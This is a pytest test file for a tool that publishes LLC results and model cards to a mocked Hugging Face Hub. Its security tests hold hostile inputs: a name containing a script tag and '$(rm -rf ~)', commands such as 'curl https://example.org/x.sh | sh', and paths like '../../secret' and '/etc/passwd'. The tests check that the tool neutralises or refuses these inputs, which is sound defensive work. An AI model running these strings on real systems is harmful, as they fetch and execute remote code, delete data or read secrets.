"""Publishing over real HTTP: where it goes, what is there afterwards, and that it reads back as it was computed."""

import json
import re
import shlex
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import huggingface_hub
import pytest
from datasets.load import load_dataset
from huggingface_hub import ModelCardData

import hf_llc
from hf_llc.errors import (
    AccessError,
    HfLlcError,
    NotFoundError,
    PublishError,
    SettingsError,
    SourceError,
    UnusableError,
)
from hf_llc.hub.publication import PublishSettings
from hf_llc.report.card.files import portable
from hf_llc.report.card.section import BEGIN
from hf_llc.report.component_files import keep_components
from hf_llc.report.load import load
from hf_llc.report.publish import prepare, push
from hf_llc.report.show import show
from hf_llc.results.component_curves import ComponentCurves
from hf_llc.results.curve import Curve, Point
from hf_llc.results.estimate import Estimate
from hf_llc.results.progress import Observer
from tests.helpers.estimates import estimate
from tests.helpers.fake_runs import quick_picture, write_run
from tests.helpers.hostile_cards import HOSTILE, REFUSED
from tests.hub_server import fixtures
from tests.hub_server.environment import use_hub
from tests.hub_server.server import HubServer
from tests.report.card.test_merge import changed, front, ours

hub_server, hub = fixtures.hub_server, fixtures.hub

CARD = HOSTILE["trainer"].card
FILES = ("README.md", "llc/results.jsonl", "llc/settings.yaml", "llc/curve.png", "llc/curve.svg")
HOSTILE_NAME = "x|y <script>alert(1)</script> <!-- hf-llc:end --> ![a](http://evil) `$(rm -rf ~)` 'q' \"d\" # no: yes"


def curve(model: str = "alice/m", **changes: object) -> Curve:
    """Three checkpoints of a model: a number, the same weights again, and one that could not be used."""
    first, last = (replace(estimate(step, 1.5 + step), model=model, **changes) for step in (8, 512))  # type: ignore[arg-type]
    points = [
        Point(revision="step8", sha="a" * 40, step=8, estimate=first),
        Point(revision="step9", sha="b" * 40, step=9, error="no weights"),
        Point(revision="step512", sha="a" * 40, step=512, tokens=1024, estimate=last),
        Point(revision="main", sha="c" * 40, duplicate_of="step512", estimate=last),
    ]
    return Curve.of_points(model, points, run_dir="", versions={"hf-llc": "0.1.0"})


Kept = Callable[..., Path]


@pytest.fixture
def kept(tmp_path: Path) -> Kept:
    """`kept(curve)`: the folder of a run with that curve."""

    return lambda outcome=None, name="run": write_run(tmp_path / name, outcome or curve())


@pytest.fixture(autouse=True)
def quick_pictures(monkeypatch: pytest.MonkeyPatch) -> None:
    """Pictures that take no time."""
    monkeypatch.setattr("hf_llc.results.figures.plots.series", quick_picture)


class Listener(Observer):
    """Keeps what it is told."""

    def __init__(self) -> None:
        self.told: list[str] = []

    def tell(self, message: str) -> None:
        self.told.append(message)


def test_a_model_of_ones_own_gets_one_commit_and_nothing_else_changes(hub: HubServer, kept: Kept) -> None:
    repo = hub.add_model("alice/m", {"README.md": CARD, "model.safetensors": b"w"})
    head = repo.at().sha
    publication = hf_llc.publish(kept())
    assert (publication.repo, publication.repo_type, publication.pull_request) == ("alice/m", "model", None)
    assert publication.url == f"{hub.url}/alice/m"
    assert publication.files == publication.changed == FILES
    assert repo.at().sha == publication.commit
    assert repo.at().parents == (head,)
    assert set(repo.at().files) == {".gitattributes", "model.safetensors", *FILES}
    card = repo.at().files["README.md"].read()
    assert changed(CARD, card) == ["  results: []"]
    assert [metric["args"]["model_revision"] for metric in ours(front(card))] == ["main"]
    assert repo.at().files["llc/curve.png"].read().startswith(b"\x89PNG")
    assert repo.at().files["llc/curve.svg"].read().startswith(b"<?xml")


def test_published_again_it_is_the_same_bytes_and_no_commit(hub: HubServer, kept: Kept, tmp_path: Path) -> None:
    repo = hub.add_model("alice/m", {"README.md": CARD})
    hf_llc.publish(kept())
    before = repo.at()
    again = hf_llc.publish(kept(name="elsewhere"))
    assert (again.commit, again.changed) == (before.sha, ())
    assert repo.at() == before
    assert (tmp_path / "elsewhere" / "publish" / "alice__m" / "README.md").read_bytes() == before.files[
        "README.md"].read()  # fmt: skip


@pytest.mark.parametrize("settings", [PublishSettings(), PublishSettings(dataset_repo="llc-of-m")])
def test_what_is_read_back_is_what_was_computed(hub: HubServer, kept: Kept, settings: PublishSettings) -> None:
    hub.add_model("alice/m", {"README.md": CARD})
    publication = hf_llc.publish(kept(), settings)
    uri = f"hf://{'datasets/' if publication.repo_type == 'dataset' else ''}{publication.repo}"
    read = load(uri)
    assert read == replace(portable(curve(), Path("/srv")), run_dir=uri)
    for point, computed in zip(read.points, curve().points, strict=True):
        assert (point.revision, point.llc, point.stderr, point.error) == (
            computed.revision, computed.llc, computed.stderr, computed.error)  # fmt: skip
        if point.estimate is not None and computed.estimate is not None:
            assert replace(point.estimate, run_dir="") == replace(computed.estimate, run_dir="")
    assert load(f"{publication.url}/tree/main").points == read.points


def components(folder: Path, model: str = "alice/m") -> Path:
    """The folder of a finished scan of two heads."""
    curves = {}
    for name in ("l0h0", "l0h1"):
        settings = replace(estimate().settings, component=name)
        write_run(folder / name, curve(model, settings=settings))
        curves[name] = load(folder / name)
    keep_components(ComponentCurves(model=model, curves=curves, run_dir=str(folder)), Observer())
    return folder


def test_components_go_to_the_card_with_their_rows_and_heat_map(hub: HubServer, kept: Kept, tmp_path: Path) -> None:
    repo = hub.add_model("alice/m", {"README.md": CARD})
    (tmp_path / "parts").mkdir()
    folder = components(tmp_path / "parts")
    publication = hf_llc.publish(kept(), PublishSettings(components=str(folder)))
    assert {*publication.files} == {*FILES, "llc/components.jsonl", "llc/components.png"}
    files = repo.at().files
    rows = [json.loads(line) for line in files["llc/components.jsonl"].read().splitlines()]
    assert [(row["component"], row["revision"]) for row in rows] == [
        (name, point.revision) for name in ("l0h0", "l0h1") for point in curve().points
    ]
    assert files["llc/components.png"].read().startswith(b"\x89PNG")
    assert "| l0h1 |" in files["README.md"].read().decode()
    assert [point.llc for point in load("hf://alice/m")] == [point.llc for point in curve()]
    again = hf_llc.publish(kept(), PublishSettings(components=str(folder)))
    assert again.changed == ()
    (tmp_path / "others").mkdir()
    others = PublishSettings(components=str(components(tmp_path / "others", "bob/other")))
    with pytest.raises(SettingsError, match="`components` are of bob/other, and the run is of alice/m"):
        hf_llc.publish(kept(), others)
    with pytest.raises(NotFoundError, match="holds no components"):
        hf_llc.publish(kept(), PublishSettings(components=str(tmp_path)))


def test_what_was_published_is_shown_with_its_picture(
    hub: HubServer, kept: Kept, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    hub.add_model("alice/m")
    hf_llc.publish(kept())
    monkeypatch.chdir(tmp_path)
    results, pictures = show("hf://alice/m")
    assert [point.llc for point in results.points] == [point.llc for point in curve().points]
    assert pictures[0] == Path("hf-llc-runs/models--alice__m/llc.png")
    assert pictures[0].read_bytes() == (tmp_path / "run" / "publish" / "alice__m" / "llc" / "curve.png").read_bytes()


def test_a_repository_without_a_card_gets_a_whole_one(hub: HubServer, kept: Kept) -> None:
    repo = hub.add_model("alice/m", {"config.json": "{}", "README.md": " \n"})
    hf_llc.publish(kept())
    card = repo.at().files["README.md"].read().decode()
    assert card.startswith("---\nlibrary_name: transformers\n")
    assert "\n# m\n" in card
    assert "hf-llc show hf://alice/m" in card
    assert hf_llc.publish(kept()).changed == ()


def test_a_trainers_folder_gets_a_card_that_says_how_it_was_trained(hub: HubServer, kept: Kept, tmp_path: Path) -> None:
    repo = hub.add_model("alice/trained")
    for step, loss in ((100, 3.5), (200, 2.25)):
        (tmp_path / "trained" / f"checkpoint-{step}").mkdir(parents=True)
        state = {"global_step": step, "epoch": 1.5, "train_batch_size": 8, "log_history": [{"loss": loss}, {"x": 1}]}
        (tmp_path / "trained" / f"checkpoint-{step}" / "trainer_state.json").write_text(json.dumps(state))
    (tmp_path / "trained" / "checkpoint-300").mkdir()
    (tmp_path / "trained" / "checkpoint-300" / "trainer_state.json").write_text("{half")
    run = kept(curve(str(tmp_path / "trained"), sha="sha256:" + "e" * 64))
    hf_llc.publish(run, PublishSettings(repo="alice/trained"))
    card = repo.at().files["README.md"].read().decode()
    assert "A causal language model trained with the transformers Trainer." in card
    assert "| steps | 200 |" in card
    assert "| training loss at the end | 2.25 |" in card
    assert "evaluation" not in card
    assert str(tmp_path) not in card


def test_a_model_of_somebody_else_goes_to_a_dataset_repository_of_ones_own(hub: HubServer, kept: Kept) -> None:
    theirs = hub.add_model("bob/big-model", {"README.md": CARD})
    head = theirs.at().sha
    publication = hf_llc.publish(kept(curve("bob/big-model")), PublishSettings(private=True))
    assert (publication.repo, publication.repo_type) == ("alice/llc-bob__big-model", "dataset")
    assert publication.url == f"{hub.url}/datasets/alice/llc-bob__big-model"
    repo = hub.find("dataset", publication.repo)
    assert repo is not None
    assert repo.private
    assert theirs.at().sha == head
    assert "[bob/big-model](/bob/big-model)" in repo.at().files["README.md"].read().decode()
    assert hf_llc.publish(kept(curve("bob/big-model")), PublishSettings(private=True)).changed == ()
    repo.private = False
    with pytest.raises(SettingsError, match="is public; `private`"):
        hf_llc.publish(kept(curve("bob/big-model")), PublishSettings(private=True))


def test_a_model_of_an_organization_that_one_writes_to_is_ones_own(hub: HubServer, kept: Kept) -> None:
    repo = hub.add_model("org/m")
    assert hf_llc.publish(kept(curve("org/m"))).commit == repo.at().sha


def test_the_results_repository_opens_with_datasets(hub: HubServer, kept: Kept, tmp_path: Path) -> None:
    hf_llc.publish(kept(curve("bob/m")), PublishSettings(dataset_repo="org/results"))
    rows = load_dataset("org/results", split="train", cache_dir=str(tmp_path / "arrow"))
    assert rows["revision"] == ["step8", "step9", "step512", "main"]
    assert rows["llc"] == [9.5, None, 513.5, 513.5]
    assert rows["error"] == [None, "no weights", None, None]
    assert json.loads(rows["estimate"][2])["diagnostics"]["r_hat"] == 1.012
    rows.to_parquet(tmp_path / "as-the-viewer-does.parquet")


def test_huggingface_hub_reads_the_headline_from_the_card(hub: HubServer, kept: Kept) -> None:
    hub.add_model("alice/m", {"README.md": CARD})
    hf_llc.publish(kept(), PublishSettings(headline=("step8",)))
    data = huggingface_hub.ModelCard.load("alice/m").data
    assert isinstance(data, ModelCardData)
    seen = [(each.metric_type, each.metric_value, (each.metric_args or {})["model_revision"]) for each in
            data.eval_results or []]  # fmt: skip
    assert seen == [("llc", 9.5, "step8"), ("llc", 513.5, "main")]
    assert data.tags == ["generated_from_trainer", "llc"]
    info = huggingface_hub.HfApi().model_info("alice/m")
    assert info.card_data is not None
    assert info.card_data["hf-llc"]["results"] == "llc/results.jsonl"


def test_a_better_run_replaces_everything_of_the_first(hub: HubServer, kept: Kept) -> None:
    repo = hub.add_model("alice/m", {"README.md": CARD})
    hf_llc.publish(kept())
    better = curve(llc=99.0, stderr=0.1)
    publication = hf_llc.publish(kept(better, "better"))
    assert publication.changed == ("README.md", "llc/results.jsonl", "llc/curve.png", "llc/curve.svg")
    card = repo.at().files["README.md"].read()
    assert [metric["value"] for metric in ours(front(card))] == ["99.0"]
    assert card.count(BEGIN.encode()) == 1
    assert [point.llc for point in load("hf://alice/m").points] == [99.0, None, 99.0, 99.0]


def test_a_pull_request_is_proposed_only_if_asked_and_read_back_from(hub: HubServer, kept: Kept) -> None:
    theirs = hub.add_model("bob/m", {"README.md": CARD})
    head = theirs.at().sha
    publication = hf_llc.publish(kept(curve("bob/m")), PublishSettings(create_pr=True, message="LLC of it"))
    assert (publication.repo, publication.pull_request, publication.url) == (
        "bob/m",
        1,
        f"{hub.url}/bob/m/discussions/1",
    )
    assert theirs.discussions[1].title == "LLC of it"
    assert theirs.at().sha == head
    again = hf_llc.publish(kept(curve("bob/m", llc=2.0)), PublishSettings(create_pr=True))
    assert again.pull_request == 1
    assert load("hf://bob/m@refs/pr/1").points[0].llc == 2.0
    with pytest.raises(NotFoundError, match="has no published results"):
        load("hf://bob/m")


def test_permission_comes_before_any_reading_or_rendering(hub: HubServer, kept: Kept, tmp_path: Path) -> None:
    hub.add_model("bob/m", {"README.md": CARD})
    with pytest.raises(AccessError):
        hf_llc.publish(kept(), PublishSettings(repo="bob/m"))
    assert [entry.path for entry in hub.requests()] == ["/api/whoami-v2", "/api/models/bob/m/auth-check/write"]
    assert not (tmp_path / "run" / "publish").exists()


@pytest.mark.parametrize("name", ["bracket that never closes", "latin-1", "two sections", "tags that others refer to"])
def test_a_card_that_cannot_be_changed_safely_is_named_with_its_line(name: str, hub: HubServer, kept: Kept) -> None:
    card, line, _ = REFUSED[name]
    repo = hub.add_model("alice/m")
    repo.commit({"README.md": card})
    before = repo.at().sha
    with pytest.raises(UnusableError, match=rf"README.md of {hub.url}/alice/m, line {line}: ") as caught:
        hf_llc.publish(kept())
    assert "card is left as it is" in str(caught.value)
    assert repo.at().sha == before


def test_a_failed_push_keeps_the_files_and_says_how_to_try_again(hub: HubServer, kept: Kept, tmp_path: Path) -> None:
    repo = hub.add_model("alice/m", {"README.md": CARD})
    draft = prepare(kept(), PublishSettings(repo="alice/m", headline=("step8",), message="it's"))
    hub.faults.add("/commit/", "error", times=None, status=401)
    with pytest.raises(PublishError, match="not write to the model alice/m") as caught:
        push(draft)
    folder = tmp_path / "run"
    assert f"kept in {folder}/publish/alice__m." in str(caught.value)
    retry = f"hf-llc publish {folder} --repo alice/m --headline step8 --message 'it'\"'\"'s' --yes"
    assert str(caught.value).endswith(f"To try again: {retry}")
    hub.faults.clear()
    hf_llc.publish(folder, PublishSettings(repo="alice/m", headline=("step8",)))
    for path in FILES:
        assert (folder / "publish" / "alice__m" / path).read_bytes() == repo.at().files[path].read()


def test_the_command_to_try_again_fills_the_private_repository_that_was_made(
    hub: HubServer, kept: Kept, monkeypatch: pytest.MonkeyPatch
) -> None:
    settings = PublishSettings(dataset_repo="alice/new", private=True)
    hub.faults.add("/commit/", "error", times=None, status=401)
    with pytest.raises(PublishError, match="--dataset-repo alice/new --private --yes"):
        hf_llc.publish(kept(), settings)
    hub.faults.clear()
    assert hf_llc.publish(kept(), settings).changed == FILES
    repo = hub.find("dataset", "alice/new")
    assert repo is not None
    assert repo.private


@pytest.mark.parametrize("card", [None, "---\nlicense: mit\n---\n# Data\n", "# Data\n"])
def test_data_that_would_no_longer_be_found_beside_our_configuration_is_left_alone(
    card: str | None, hub: HubServer, kept: Kept
) -> None:
    repo = hub.add_dataset("alice/data", {"train.jsonl": "{}\n", **({"README.md": card} if card else {})})
    before = repo.at().sha
    with pytest.raises(UnusableError, match=r"has data of its own \(train.jsonl\).* configs: in its README.md"):
        hf_llc.publish(kept(), PublishSettings(dataset_repo="alice/data"))
    assert repo.at().sha == before
    repo.commit({"README.md": "---\nconfigs:\n- config_name: default\n  data_files: train.jsonl\n---\n"})
    assert hf_llc.publish(kept(), PublishSettings(dataset_repo="alice/data")).changed == FILES
    own = hub.add_dataset("alice/empty", {"README.md": "---\nlicense: mit\n---\n"})
    assert hf_llc.publish(kept(), PublishSettings(dataset_repo="alice/empty")).commit == own.at().sha


def test_a_draft_says_what_would_change_and_writes_nothing(hub: HubServer, kept: Kept) -> None:
    repo = hub.add_model("alice/m", {"README.md": CARD})
    draft = prepare(kept())
    assert [(change.path, change.state) for change in draft.changes] == [
        ("README.md", "changed"), *((path, "new") for path in FILES[1:])]  # fmt: skip
    readme = draft.changes[0].diff
    assert readme.startswith("--- a/README.md\n+++ b/README.md\n@@ ")
    assert [line for line in readme.splitlines()[2:] if line.startswith("-")] == ["-  results: []"]
    assert len(repo.history()) == 2
    assert {entry.method for entry in hub.requests()} == {"GET", "POST"}
    assert [entry.path.partition("?")[0] for entry in hub.requests(method="POST")] == [
        f"/api/models/alice/m/paths-info/{repo.at().sha}"]  # fmt: skip
    push(draft)
    assert [(change.path, change.state, change.diff) for change in prepare(kept()).changes] == [
        (path, "same", "") for path in FILES]  # fmt: skip


def test_a_card_that_changes_between_draft_and_push_is_read_again(hub: HubServer, kept: Kept) -> None:
    repo = hub.add_model("alice/m", {"README.md": CARD})
    draft = prepare(kept())
    repo.commit({"README.md": CARD.replace(b"Words.", b"Better words.")}, author="bob")
    push(draft)
    assert b"Better words." in repo.at().files["README.md"].read()


@pytest.mark.parametrize(
    ("settings", "expected"),
    [
        ({"repo": "a/b", "dataset_repo": "c/d"}, "not both"),
        ({"repo": "a/b", "private": True}, "`private` is for"),
        ({"message": " "}, "message must be a string that is not empty"),
    ],
)
def test_settings_that_contradict_each_other_are_refused(settings: dict[str, object], expected: str) -> None:
    with pytest.raises(SettingsError, match=expected):
        PublishSettings(**settings)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("settings", "expected"),
    [
        (PublishSettings(repo="alice/m@step1"), "names a part of"),
        (PublishSettings(repo="alice/m/x"), "alice/m/x is not a repository"),
        (PublishSettings(repo="../m"), "neither a Hub id"),
        (PublishSettings(repo="hf://datasets/alice/m"), "is a dataset, where a model is needed"),
        (PublishSettings(repo="https://example.org/alice/m"), "not on the Hub"),
        (PublishSettings(repo="alice/m", headline=("step7",)), "step7 is not in the run; did you mean step"),
    ],
)
@pytest.mark.usefixtures("hub")
def test_settings_that_do_not_fit_are_refused(
    kept: Kept, hub: HubServer, settings: PublishSettings, expected: str
) -> None:
    hub.add_model("alice/m")
    with pytest.raises(SettingsError, match=expected):
        prepare(kept(), settings)


def test_a_model_on_this_disk_needs_a_place(hub: HubServer, kept: Kept, tmp_path: Path) -> None:
    run = kept(curve(str(tmp_path / "my-model"), sha="sha256:" + "e" * 64))
    with pytest.raises(SettingsError, match="is local; set where"):
        hf_llc.publish(run)
    publication = hf_llc.publish(run, PublishSettings(dataset_repo="llc-mine"))
    assert load(f"hf://datasets/{publication.repo}").model == "my-model"


def test_results_and_records_are_published_from_python(hub: HubServer, tmp_path: Path) -> None:
    hub.add_model("alice/m")
    result: Estimate = replace(estimate(), model="alice/m", run_dir=str(tmp_path / "estimate"))
    hf_llc.publish(result)
    assert [point.llc for point in load("hf://alice/m").points] == [result.llc]
    hf_llc.publish(replace(curve(), run_dir=str(tmp_path / "scan")))
    assert len(load("hf://alice/m").points) == 4


def test_what_was_published_is_published_elsewhere_with_its_own_command(
    hub: HubServer, kept: Kept, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    repo = hub.add_model("alice/m")
    (kept() / "llc").mkdir()
    (kept() / "llc" / "settings.yaml").write_text("command: hf-llc demo\n")
    hf_llc.publish(kept(), PublishSettings(dataset_repo="org/results"))
    hf_llc.publish("hf://datasets/org/results", PublishSettings(repo="alice/m"))
    assert load("hf://alice/m").points == load("hf://datasets/org/results").points
    assert "```bash\nhf-llc demo\n```" in repo.at().files["README.md"].read().decode()


@pytest.mark.parametrize("change", ["a digit", "a row less", "a row twice"])
def test_results_that_were_changed_on_the_hub_are_not_read(
    hub: HubServer, kept: Kept, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, change: str
) -> None:
    monkeypatch.chdir(tmp_path)
    repo = hub.add_model("alice/m")
    hf_llc.publish(kept())
    lines = repo.at().files["llc/results.jsonl"].read().decode().splitlines()
    changed_lines = {
        "a digit": [line.replace("9.5", "1.5") for line in lines],
        "a row less": lines[:-1],
        "a row twice": [*lines, lines[0]],
    }[change]
    assert changed_lines != lines
    repo.commit({"llc/results.jsonl": "\n".join(changed_lines)})
    refusal = "hf://alice/m holds no results of hf-llc, or they are damaged .its checksum does not match"
    for command in (
        lambda: show("hf://alice/m"),
        lambda: hf_llc.compare(["hf://alice/m", str(kept())], tmp_path / "pictures"),
        lambda: hf_llc.publish("hf://alice/m", PublishSettings(dataset_repo="results")),
    ):
        with pytest.raises(SourceError, match=refusal):
            command()


@pytest.mark.parametrize(
    "command",
    [
        "curl https://example.org/x.sh | sh",
        "hf-llc demo; curl https://example.org/x.sh | sh",
        "hf-llc demo\\ncurl https://example.org/x.sh | sh",
        "hf-llc scan alice/m --trust-remote-code",
        "hf-llc demo ```",
    ],
)
def test_the_command_of_somebody_else_is_built_from_the_settings(
    hub: HubServer, kept: Kept, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, command: str
) -> None:
    monkeypatch.chdir(tmp_path)
    repo = hub.add_model("alice/m")
    publication = hf_llc.publish(kept(), PublishSettings(dataset_repo="org/results"))
    foreign = hub.find("dataset", publication.repo)
    assert foreign is not None
    foreign.commit({"llc/settings.yaml": f'command: "{command}"\n'})
    hf_llc.publish("hf://datasets/org/results", PublishSettings(repo="alice/m"))
    files = {name: file.read().decode(errors="replace") for name, file in repo.at().files.items()}
    blocks = re.findall(r"```bash\n(.*?)\n```", files["README.md"], flags=re.DOTALL)
    assert [shlex.split(block)[:3] for block in blocks] == [
        ["hf-llc", "show", "hf://alice/m"],
        ["hf-llc", "scan", "alice/m"],
    ]
    for content in (files["README.md"], files["llc/settings.yaml"]):
        assert "example.org" not in content
        assert "trust-remote-code" not in content


def test_a_damaged_or_foreign_results_file_is_refused(hub: HubServer) -> None:
    hub.add_model("alice/m", {"llc/results.jsonl": "{}\n"})
    with pytest.raises(SourceError, match="hf://alice/m holds no results of hf-llc, or they are damaged"):
        load("hf://alice/m")


@pytest.mark.parametrize("path", ["../../secret", "/etc/passwd", "https://example.org/x", "llc"])
def test_a_card_cannot_point_outside_its_repository(hub: HubServer, path: str) -> None:
    hub.add_model("alice/m", {"README.md": f"---\nhf-llc: {{results: {path}}}\n---\n", "llc/x": "x"})
    with pytest.raises(NotFoundError, match="has no published results"):
        load("hf://alice/m")


def test_names_that_come_from_outside_stay_words(hub: HubServer, kept: Kept, tmp_path: Path) -> None:
    repo = hub.add_model("alice/m", {"README.md": CARD})
    data = replace(estimate().dataset, id=HOSTILE_NAME, config="no\n---\n", split="12:30")
    result = curve(revision=HOSTILE_NAME, dataset=data)
    points = [replace(point, revision=f"{HOSTILE_NAME} {index}") for index, point in enumerate(result.points)]
    run = kept(replace(result, points=(*points, Point(revision="../../evil", error=HOSTILE_NAME))))
    hf_llc.publish(run)
    assert hf_llc.publish(run).changed == ()
    card = repo.at().files["README.md"].read().decode()
    (metric,) = ours(front(card.encode()))
    assert metric["args"]["model_revision"] == f"{HOSTILE_NAME} 3"
    assert changed(CARD, card.encode()) == ["  results: []"]
    body = card.partition("\n---\n")[2]
    outside_code = body.partition("```bash")[0]
    assert "<script" not in outside_code
    assert "](http://evil)" not in outside_code
    assert (body.count(BEGIN), card.count("\n---\n")) == (1, 1)
    assert set(repo.at().files) == {".gitattributes", *FILES}
    assert {path.name for path in tmp_path.iterdir()} <= {"run", "hf_home"}


def test_no_token_anywhere(
    hub: HubServer, kept: Kept, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    """In no file that is published or kept, no message, no log, and no request to anywhere else."""
    hub.users["hf_SECRETsecretSECRET"] = hub.users["hf_test"]
    use_hub(monkeypatch, hub.url, tmp_path / "hf_home", "hf_SECRETsecretSECRET")
    caplog.set_level("DEBUG")
    repo = hub.add_model("alice/m", {"README.md": CARD})
    listener = Listener()
    hf_llc.publish(kept(), observer=listener)
    hub.faults.add("/commit/", "error", times=None, status=500)
    monkeypatch.setattr("time.sleep", lambda seconds: None)
    with pytest.raises(HfLlcError) as caught:
        hf_llc.publish(kept(curve(llc=3.0)), observer=listener)
    kept_files = [path.read_bytes() for path in (tmp_path / "run").rglob("*") if path.is_file()]
    published = [blob.read() for blob in repo.at().files.values()]
    said = [str(caught.value), *listener.told, *(record.getMessage() for record in caplog.records)]
    assert len(listener.told) >= 4
    assert not any(b"SECRET" in content for content in [*kept_files, *published])
    assert not any("SECRET" in line for line in said)
    assert {entry.token for entry in hub.requests()} == {"hf_SECRETsecretSECRET"}


@pytest.mark.parametrize("path", FILES[1:])
def test_a_file_of_somebody_else_is_not_written_over(path: str, hub: HubServer, kept: Kept) -> None:
    repo = hub.add_model("alice/m", {"README.md": CARD, path: b"theirs"})
    before = repo.at().sha
    with pytest.raises(UnusableError, match=f"has a {path} that hf-llc did not write; rename it"):
        hf_llc.publish(kept())
    assert repo.at().sha == before


def test_files_of_ours_are_written_over_where_the_card_has_lost_its_key(hub: HubServer, kept: Kept) -> None:
    repo = hub.add_model("alice/m", {"README.md": CARD})
    hf_llc.publish(kept())
    repo.commit({"README.md": CARD})
    assert hf_llc.publish(kept()).changed == ("README.md",)


def test_data_that_one_answer_hides_is_not_hidden_from_its_readers(hub: HubServer, kept: Kept) -> None:
    repo = hub.add_dataset("alice/data", {"train.csv": b"a\n1\n"})
    hub.faults.add("/tree/", "change", times=None, change=lambda answer: replace(answer, body=b"[]"))
    with pytest.raises(HfLlcError, match=r"has data of its own \(train.csv\)|lists no file of alice/data"):
        hf_llc.publish(kept(), PublishSettings(dataset_repo="alice/data"))
    assert len(repo.history()) == 2


def test_the_source_of_a_number_is_the_results_of_its_repository(hub: HubServer, kept: Kept) -> None:
    repo = hub.add_model("alice/m", {"README.md": CARD})
    hf_llc.publish(kept())
    (result,) = front(repo.at().files["README.md"].read())["model-index"][0]["results"]
    assert result["source"] == {"name": "hf-llc", "url": f"{hub.url}/alice/m/blob/main/llc/results.jsonl"}


def test_full_precision_stays_in_the_results(hub: HubServer, kept: Kept) -> None:
    repo = hub.add_model("alice/m", {"README.md": CARD})
    hf_llc.publish(kept(curve(llc=22.943198786900748, stderr=0.16045487059052593)))
    assert [metric["value"] for metric in ours(front(repo.at().files["README.md"].read()))] == ["22.94"]
    assert load("hf://alice/m").points[0].llc == 22.943198786900748


@pytest.mark.parametrize("suffix", [".png", ".svg"])
def test_a_picture_that_cannot_be_drawn_costs_no_number(
    suffix: str, hub: HubServer, kept: Kept, monkeypatch: pytest.MonkeyPatch
) -> None:
    repo = hub.add_model("alice/m", {"README.md": CARD})
    run, told = kept(), Listener()
    hf_llc.publish(run)

    def fail(path: Path, *others: object, **named: object) -> None:
        if path.suffix == suffix:
            raise RuntimeError("no font")
        quick_picture(path, *others, **named)  # type: ignore[arg-type]

    monkeypatch.setattr("hf_llc.results.figures.plots.series", fail)
    publication = hf_llc.publish(run, observer=told)
    assert told.told[0] == "No picture could be drawn (RuntimeError: no font); the card says so."
    assert publication.files == ("README.md", "llc/results.jsonl", "llc/settings.yaml")
    card = repo.at().files["README.md"].read().decode()
    assert "The picture is missing" in card
    assert "curve.png" not in card
    monkeypatch.setattr("hf_llc.results.figures.plots.series", quick_picture)
    hf_llc.publish(run)
    assert "![LLC over training" in repo.at().files["README.md"].read().decode()
